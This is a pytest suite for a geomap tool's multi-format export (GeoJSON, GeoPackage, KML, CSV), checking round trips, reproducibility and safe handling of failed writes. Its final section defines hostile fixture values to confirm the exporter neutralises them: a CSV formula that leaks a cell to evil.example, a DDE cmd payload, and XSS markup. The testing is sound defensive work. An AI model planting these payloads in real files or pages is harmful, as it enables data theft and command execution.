"""Exports read back with pyogrio and GDAL's ogrinfo: same ids, attributes and geometry types."""

import json
import re
import shutil
import subprocess

import pyogrio
import pytest
from click.testing import CliRunner

from geomap.assemble import assemble
from geomap.cli import cli
from geomap.errors import OutputError
from geomap.export import export
from geomap.load import load_dataset

from .conftest import FIXTURES

IDS = ["tanker-to-cardon", "air-bridge", "visit-tachira", "pacific-flight"]


@pytest.fixture(scope="module")
def assembly():
    return assemble(load_dataset(FIXTURES / "basic"))


def run(*args):
    return CliRunner().invoke(cli, ["export", "--data", str(FIXTURES / "basic"), *args])


def test_geojson_is_rfc7946_and_round_trips(tmp_path, assembly):
    out = tmp_path / "events.geojson"
    export(assembly, "geojson", out)
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert "crs" not in doc  # RFC 7946: WGS84 only, no crs member
    assert [f["id"] for f in doc["features"]] == IDS
    tanker = doc["features"][0]
    assert tanker["geometry"]["type"] == "LineString"
    assert tanker["geometry"]["coordinates"][0] == [56.2, 27.15]  # lon, lat
    assert tanker["properties"]["citations"] == [{
        "id": "news-a", "title": "Tankers arrive", "outlet": "Example News",
        "author": "A. Writer", "published": "2020-05", "url": "https://example.org/a",
    }]
    assert tanker["properties"]["actors"] == ["Iran", "Venezuela"]
    pacific = doc["features"][3]["geometry"]
    assert pacific["type"] == "MultiLineString"
    assert all(-180 <= x <= 180 for line in pacific["coordinates"] for x, _ in line)
    # Nothing is lost: every event field is there, exactly as assembled.
    frame = pyogrio.read_dataframe(out)
    assert list(frame["id"]) == IDS
    for column in ("title", "summary", "evidence", "carrier", "confidence", "date", "stops"):
        assert list(frame[column].fillna("")) == list(assembly.events[column]), column
    assert list(frame.geometry.geom_type) == list(assembly.events.geometry.geom_type)
    pairs = zip(frame.geometry, assembly.events.geometry, strict=True)
    assert all(a.equals_exact(b, 1e-9) for a, b in pairs)


def test_gpkg_has_point_and_line_layers(tmp_path, assembly):
    out = tmp_path / "events.gpkg"
    export(assembly, "gpkg", out)
    layers = dict(pyogrio.list_layers(out))
    assert layers == {"events_points": "Point", "events_lines": "MultiLineString"}
    points = pyogrio.read_dataframe(out, layer="events_points")
    lines = pyogrio.read_dataframe(out, layer="events_lines")
    assert sorted([*points["id"], *lines["id"]]) == sorted(IDS)
    assert list(points["id"]) == ["visit-tachira"]
    assert points.crs.to_epsg() == 4326
    row = points.iloc[0]
    assert row["citations"] == (
        "Example News — Tankers arrive — 2020-05 <https://example.org/a>; "
        "Example Blog — Air bridge — 2020-07-28"
    )


@pytest.mark.skipif(shutil.which("ogrinfo") is None, reason="GDAL's ogrinfo is not installed "
                    "(apt-get install gdal-bin)")
@pytest.mark.parametrize(("fmt", "expected"), [
    ("gpkg", ["events_points (Point)", "events_lines (Multi Line String)"]),
    ("kml", ["events"]),
    ("geojson", ["events"]),
])
def test_ogrinfo_lists_the_layers(tmp_path, assembly, fmt, expected):
    out = tmp_path / f"events.{fmt}"
    export(assembly, fmt, out)
    listing = subprocess.run(["ogrinfo", "-ro", "-q", str(out)], capture_output=True, text=True,
                             check=True).stdout
    for layer in expected:
        assert layer in listing
    summary = subprocess.run(["ogrinfo", "-ro", "-al", "-so", str(out)], capture_output=True,
                             text=True, check=True).stdout
    assert sum(int(n) for n in re.findall(r"Feature Count: (\d+)", summary)) == 4


def test_kml_reads_back_with_names(tmp_path, assembly):
    out = tmp_path / "events.kml"
    export(assembly, "kml", out)
    frame = pyogrio.read_dataframe(out)
    assert list(frame["Name"]) == list(assembly.events["title"])


def test_csv_has_wkt_geometry(tmp_path, assembly):
    out = tmp_path / "events.csv"
    export(assembly, "csv", out)
    frame = pyogrio.read_dataframe(out, GEOM_POSSIBLE_NAMES="wkt", KEEP_GEOM_COLUMNS="NO")
    assert "wkt" not in frame.columns
    assert list(frame["id"]) == IDS
    assert list(frame.geometry.geom_type) == [
        "LineString", "LineString", "Point", "MultiLineString",
    ]


def test_template_syntax_is_kept_unchanged(tmp_path, basic_data):
    events = basic_data / "events.csv"
    text = events.read_text(encoding="utf-8").replace("A tanker arrived.", "{{ 7*7 }} {% x %}")
    events.write_text(text, encoding="utf-8")
    out = tmp_path / "e.geojson"
    export(assemble(load_dataset(basic_data)), "geojson", out)
    evidence = json.loads(out.read_text())["features"][0]["properties"]["evidence"]
    assert evidence == "{{ 7*7 }} {% x %}"


def test_stdout_for_geojson_and_csv():
    result = run("--format", "geojson", "-o", "-", "--kind", "visit")
    assert result.exit_code == 0
    assert [f["id"] for f in json.loads(result.stdout)["features"]] == ["visit-tachira"]
    result = run("--format", "csv", "-o", "-", "--year", "2020")
    assert result.stdout.splitlines()[0].endswith(",citations,wkt")
    assert len(result.stdout.splitlines()) == 5


def test_binary_formats_refuse_stdout():
    result = run("--format", "gpkg", "-o", "-")
    assert result.exit_code == 1
    assert result.output == (
        "Error: --output: gpkg cannot be written to standard output; give --output FILE\n"
    )


def test_cli_export_reports_what_it_wrote(tmp_path):
    out = tmp_path / "x.gpkg"
    result = run("--format", "gpkg", "-o", str(out), "--confidence", "reported")
    assert result.exit_code == 0
    assert result.output == f"wrote {out}: 3 events\n"
    assert [p.name for p in tmp_path.iterdir()] == ["x.gpkg"]


def test_failed_gdal_write_keeps_previous_file(tmp_path, assembly, monkeypatch):
    out = tmp_path / "events.gpkg"
    out.write_bytes(b"previous")

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(pyogrio, "write_dataframe", broken)
    with pytest.raises(OutputError, match="cannot write: disk full"):
        export(assembly, "gpkg", out)
    assert out.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["events.gpkg"]


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "kml", "csv"])
def test_exports_are_byte_for_byte_reproducible(tmp_path, assembly, fmt):
    first, second = tmp_path / f"a.{fmt}", tmp_path / f"b.{fmt}"
    export(assembly, fmt, first)
    import time

    time.sleep(1.1)  # a timestamp written by GDAL would now differ
    export(assembly, fmt, second)
    assert first.read_bytes() == second.read_bytes()


# --- Formulas, live HTML and NUL: read back by a parser. ---

HOSTILE_SUMMARY = (
    '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a> & <b>bold</b>'
)


@pytest.fixture
def hostile_data(basic_data):
    import csv as csv_module

    path = basic_data / "events.csv"
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv_module.DictReader(handle))
    rows[0].update(
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")', summary=HOSTILE_SUMMARY,
        carrier="+cmd|' /C calc'!A0", evidence="before\x00after the NUL",
    )
    rows[1].update(actors="@SUM(1+1); -2+3; Conviasa", carrier="-2+3")
    rows[2].update(carrier="-12.5")  # a plain number is data, not a formula
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv_module.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return basic_data


def _csv_rows(text: str) -> dict:
    import csv as csv_module
    import io

    return {row["id"]: row for row in csv_module.DictReader(io.StringIO(text))}


def test_csv_export_neutralises_formulas_and_raw_keeps_them(hostile_data, tmp_path):
    out = tmp_path / "events.csv"
    base = ["export", "--data", str(hostile_data), "--format", "csv"]
    assert CliRunner().invoke(cli, [*base, "-o", str(out)]).exit_code == 0
    rows = _csv_rows(out.read_text(encoding="utf-8"))
    assert rows["tanker-to-cardon"]["title"] == (
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    )
    assert rows["tanker-to-cardon"]["carrier"] == "'+cmd|' /C calc'!A0"
    assert rows["air-bridge"]["actors"] == "'@SUM(1+1); -2+3; Conviasa"
    assert rows["air-bridge"]["carrier"] == "'-2+3"
    assert rows["visit-tachira"]["carrier"] == "-12.5"
    assert rows["tanker-to-cardon"]["wkt"].startswith("LINESTRING (")  # no prefix on data
    leading = {c[0] for row in rows.values() for c in row.values() if c and c != "-12.5"}
    assert not leading & set("=+-@\t\r")
    raw = CliRunner().invoke(cli, [*base, "--raw", "-o", "-"])
    assert raw.exit_code == 0
    raw_rows = _csv_rows(raw.stdout)
    assert raw_rows["tanker-to-cardon"]["title"].startswith("=HYPERLINK(")
    assert raw_rows["air-bridge"]["actors"] == "@SUM(1+1); -2+3; Conviasa"


def test_kml_descriptions_are_text_not_live_html(hostile_data, tmp_path):
    import html.parser
    import xml.etree.ElementTree as ET

    out = tmp_path / "events.kml"
    result = CliRunner().invoke(
        cli, ["export", "--data", str(hostile_data), "--format", "kml", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    placemarks = ET.parse(out).getroot().findall(".//k:Placemark", ns)
    assert len(placemarks) == 4
    description = placemarks[0].find("k:description", ns).text

    class Elements(html.parser.HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.attributes, self.text = [], [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)
            self.attributes.extend(attrs)

        def handle_data(self, data):
            self.text.append(data)

    # A viewer renders the description as HTML: only the template's <p> elements may appear,
    # with no attributes, and the data shows as the literal text it is.
    parser = Elements()
    parser.feed(description)
    assert set(parser.tags) == {"p"}
    assert parser.attributes == []
    assert HOSTILE_SUMMARY in "".join(parser.text)
    frame = pyogrio.read_dataframe(out)
    assert frame["Name"][0] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("fmt", ["gpkg", "kml", "geojson", "csv"])
def test_nul_is_removed_the_same_way_in_every_format(hostile_data, tmp_path, fmt):
    out = tmp_path / f"events.{fmt}"
    result = CliRunner().invoke(
        cli, ["export", "--data", str(hostile_data), "--format", fmt, "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    if fmt == "geojson":
        doc = json.loads(out.read_text(encoding="utf-8"))
        evidence = doc["features"][0]["properties"]["evidence"]
    elif fmt == "csv":
        evidence = _csv_rows(out.read_text(encoding="utf-8"))["tanker-to-cardon"]["evidence"]
    elif fmt == "kml":
        evidence = pyogrio.read_dataframe(out)["evidence"][0]
    else:
        frame = pyogrio.read_dataframe(out, layer="events_lines")
        evidence = frame.set_index("id").loc["tanker-to-cardon", "evidence"]
    assert evidence == "beforeafter the NUL"  # as the map shows it (safety.clean_text)


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "kml", "csv"])
def test_a_datasets_own_columns_are_exported_in_every_format(tmp_path, fmt):
    custom = assemble(load_dataset(FIXTURES / "custom"))
    out = tmp_path / f"events.{fmt}"
    export(custom, fmt, out)
    if fmt == "geojson":
        features = json.loads(out.read_text(encoding="utf-8"))["features"]
        values = {f["id"]: (f["properties"]["province"], f["properties"]["town"])
                  for f in features}
    elif fmt == "csv":
        import csv

        with out.open(encoding="utf-8", newline="") as handle:
            values = {r["id"]: (r["province"], r["town"]) for r in csv.DictReader(handle)}
    elif fmt == "kml":  # attributes travel as ExtendedData, which GDAL reads back as fields
        frame = pyogrio.read_dataframe(out)
        values = {r["Name"]: (r["province"], r["town"]) for r in frame.to_dict("records")}
        values = {next(e.id for e in custom.records if e.title == k): v for k, v in values.items()}
    else:
        values = {}
        for name, _ in pyogrio.list_layers(out):
            frame = pyogrio.read_dataframe(out, layer=name)
            values.update({r["id"]: (r["province"], r["town"]) for r in frame.to_dict("records")})
    assert values["p1"] == ("Kyiv City", "Kyiv")
    assert values["p2"] == ("Lviv Oblast", "Lviv")
